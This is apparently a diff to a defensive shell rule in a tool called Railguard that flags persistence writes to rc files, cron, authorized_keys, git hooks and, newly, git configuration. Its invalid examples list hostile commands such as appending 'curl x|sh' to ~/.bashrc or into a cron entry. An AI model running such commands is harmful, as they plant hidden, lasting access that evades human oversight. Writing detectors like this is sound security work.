@@ -18,10 +18,12 @@ export default defineShellRule({
     severity: 'warning',
     docs: {
       description:
-        'Flags writes, appends and overwrites of shell rc files, cron, systemd/launchd units, authorized_keys, git hooks and sudoers.',
+        'Flags writes, appends and overwrites of shell rc files, cron, systemd/launchd units, authorized_keys, git hooks and configuration, and sudoers.',
       problem:
         'A line appended to `~/.bashrc`, a cron entry, a systemd unit, a key in `authorized_keys` ' +
-        'or a git hook runs later, outside the action Railguard judged, with nobody watching. ' +
+        'or a git hook runs later, outside the action Railguard judged, with nobody watching; so does ' +
+        "a command set in git's configuration (`git config --global core.pager CMD`, a `!` alias, " +
+        '`core.hooksPath DIR`). ' +
         'It is how an attacker (or a prompt-injected agent) keeps access.',
       solution:
         'Make such changes yourself, reviewed, through the tool meant for them (`crontab -e`, ' +
@@ -33,12 +35,19 @@ export default defineShellRule({
     controls: ['NIST:CM-5', 'NIST:SI-7', 'SOC2:CC6.8'],
     sources: ['issue 9 §5 (persistence asks)', 'https://attack.mitre.org/tactics/TA0003/'],
     examples: {
-      valid: ['cat ~/.bashrc', 'echo hi >> notes.txt', 'source ~/.bashrc', 'ls .git/hooks'],
+      valid: [
+        'cat ~/.bashrc',
+        'echo hi >> notes.txt',
+        'source ~/.bashrc',
+        'ls .git/hooks',
+        'git config --global user.name x',
+      ],
       invalid: [
         "echo 'curl x|sh' >> ~/.bashrc",
         'cp evil.sh .git/hooks/pre-commit',
         'tee -a ~/.ssh/authorized_keys',
         'echo "* * * * * curl x|sh" > /etc/cron.d/job',
+        'git config --global core.hooksPath /tmp/hooks',
       ],
     },
   },
